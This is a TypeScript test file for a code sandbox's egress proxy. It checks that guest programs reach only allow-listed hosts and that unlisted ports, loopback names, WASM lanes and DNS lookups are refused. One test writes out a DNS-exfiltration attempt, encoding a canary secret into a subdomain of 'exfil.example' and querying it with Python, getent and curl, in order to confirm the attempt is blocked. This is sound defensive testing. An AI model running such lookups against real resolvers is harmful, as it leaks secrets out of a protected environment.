import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, describe, it } from 'node:test';
import type { EgressDecision } from '../../src/sandbox/sandbox-lane.js';
import { attempt, CANARY, createLanes } from './support/attempts.js';

// Network: none by default; granted host:port pairs only, through umca's egress proxy.
const lanes = createLanes();
let listed: { server: Server; port: number; hits: string[] };
let unlisted: { server: Server; port: number; hits: string[] };

async function localServer(body: string): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as { port: number }).port, hits };
}

before(async () => {
  listed = await localServer('hello from the listed host');
  unlisted = await localServer(`the unlisted host leaks ${CANARY}`);
});
after(async () => {
  await Promise.all(lanes.all.map((lane) => lane.close()));
  for (const { server } of [listed, unlisted]) server.close();
});

const urlopen = (url: string) => `import urllib.request\nprint(urllib.request.urlopen(${JSON.stringify(url)}, timeout=5).read().decode())`;
const grant = (...hosts: string[]) => ({ egress: { allowedOutboundHosts: hosts } });

describe('sandbox security: network', () => {
  for (const lane of lanes.processLanes) {
    it(`${lane.name}: reaches a listed host through the egress proxy (python urllib, curl, a CONNECT tunnel), each connection an event`, async () => {
      listed.hits.length = 0;
      unlisted.hits.length = 0;
      const decisions: EgressDecision[] = [];
      const run = (kind: 'py' | 'sh', source: string) =>
        lane.run({ files: { [`main.${kind}`]: source }, entry: `main.${kind}`, limits: { timeoutMs: 10_000, memoryBytes: 64 << 20, outputBytes: 65_536 }, ...grant(`127.0.0.1:${listed.port}`) }, { onEgress: (d) => decisions.push(d) });
      const py = await run('py', urlopen(`http://127.0.0.1:${listed.port}/py`));
      assert.equal(py.status, 'ok', `${py.message}\n${py.stderr}`);
      assert.equal(py.stdout, 'hello from the listed host\n');
      const curl = await run('sh', `curl -sS --max-time 5 http://127.0.0.1:${listed.port}/curl`);
      assert.equal(curl.status, 'ok', `${curl.message}\n${curl.stderr}`);
      assert.equal(curl.stdout, 'hello from the listed host');
      const tunnel = await run('py', `import http.client\nc = http.client.HTTPConnection('127.0.0.1', 3128, timeout=5)\nc.set_tunnel('127.0.0.1', ${listed.port})\nc.request('GET', '/tunnel')\nprint(c.getresponse().read().decode())`);
      assert.equal(tunnel.status, 'ok', `${tunnel.message}\n${tunnel.stderr}`);
      assert.deepEqual(listed.hits, ['GET /py', 'GET /curl', 'GET /tunnel']);
      assert.deepEqual(decisions.map((d) => [d.host, d.port, d.allowed, d.reason]), [
        ['127.0.0.1', listed.port, true, 'listed'],
        ['127.0.0.1', listed.port, true, 'listed'],
        ['127.0.0.1', listed.port, true, 'listed'],
      ]);
    });

    it(`${lane.name}: refuses an unlisted 127.0.0.1 port: directly (own network namespace) and through the proxy (egress_denied)`, async () => {
      listed.hits.length = 0;
      unlisted.hits.length = 0;
      const direct = await attempt(lane, 'py', `import socket\nsocket.create_connection(('127.0.0.1', ${unlisted.port}), timeout=3)`, ['nonzero_exit']);
      assert.match(direct.message, /ConnectionRefusedError|Network is unreachable|OSError/);
      const decisions: EgressDecision[] = [];
      const proxied = await lane.run(
        { files: { 'main.py': urlopen(`http://127.0.0.1:${unlisted.port}/`) }, entry: 'main.py', limits: { timeoutMs: 10_000, memoryBytes: 64 << 20, outputBytes: 65_536 }, ...grant(`127.0.0.1:${listed.port}`) },
        { onEgress: (d) => decisions.push(d) },
      );
      assert.equal(proxied.status, 'egress_denied', proxied.message);
      assert.match(proxied.message, new RegExp(`127\\.0\\.0\\.1:${unlisted.port} refused by the egress policy \\(not listed\\)`));
      assert.deepEqual(decisions.map((d) => [d.host, d.allowed, d.reason]), [['127.0.0.1', false, 'not_listed']]);
      assert.deepEqual(unlisted.hits, [], 'the unlisted server saw no request');
    });

    it(`${lane.name}: refuses an unlisted host, and a listed name that resolves to loopback`, async () => {
      listed.hits.length = 0;
      unlisted.hits.length = 0;
      const host = await attempt(lane, 'py', urlopen('http://example.com/'), ['egress_denied'], grant(`127.0.0.1:${listed.port}`));
      assert.match(host.message, /example\.com:80 refused by the egress policy \(not listed\)/);
      const loopbackName = await attempt(lane, 'py', urlopen(`http://localhost:${unlisted.port}/`), ['egress_denied'], grant(`localhost:${unlisted.port}`));
      assert.match(loopbackName.message, /private address/);
      assert.deepEqual(unlisted.hits, []);
    });

    it(`${lane.name}: gives a guest no resolver to exfiltrate through, and the proxy refuses unlisted names before any lookup`, async () => {
      listed.hits.length = 0;
      unlisted.hits.length = 0;
      const label = Buffer.from(CANARY).toString('hex').slice(0, 60);
      const direct = await attempt(lane, 'py', `import socket\nsocket.getaddrinfo('${label}.exfil.example', 80)`, ['nonzero_exit']);
      assert.match(direct.message, /gaierror|Temporary failure|Name or service not known/);
      const viaDig = await attempt(lane, 'sh', `getent hosts ${label}.exfil.example`, ['nonzero_exit']);
      assert.notEqual(viaDig.exitCode, 0);
      const decisions: EgressDecision[] = [];
      const proxied = await lane.run(
        { files: { 'main.sh': `curl -sS --max-time 5 https://${label}.exfil.example/` }, entry: 'main.sh', limits: { timeoutMs: 10_000, memoryBytes: 64 << 20, outputBytes: 65_536 }, ...grant(`127.0.0.1:${listed.port}`) },
        { onEgress: (d) => decisions.push(d) },
      );
      assert.equal(proxied.status, 'egress_denied');
      assert.deepEqual(decisions.map((d) => d.reason), ['not_listed']);
    });
  }

  it('the WASM lanes have no network at all, and refuse a job that asks for some', async () => {
    const js = await attempt(lanes.wasmJs, 'js', `await fetch('http://127.0.0.1:${unlisted.port}/');`, ['nonzero_exit']);
    assert.match(js.message, /fetch/);
    const py = await attempt(lanes.wasmPython, 'py', urlopen(`http://127.0.0.1:${unlisted.port}/`), ['nonzero_exit']);
    assert.match(py.message, /URLError|unreachable|OSError/);
    assert.deepEqual(unlisted.hits, []);
    for (const lane of [lanes.wasmJs, lanes.wasmPython]) {
      const asked = await lane.run({ files: { 'main.py': 'print(1)', 'main.js': 'console.log(1)' }, entry: lane === lanes.wasmJs ? 'main.js' : 'main.py', limits: { timeoutMs: 1_000, memoryBytes: 32 << 20, outputBytes: 1_024 }, ...grant(`127.0.0.1:${listed.port}`) });
      assert.equal(asked.status, 'egress_denied');
      assert.match(asked.message, /no network; egress needs the process lane/);
    }
  });
});
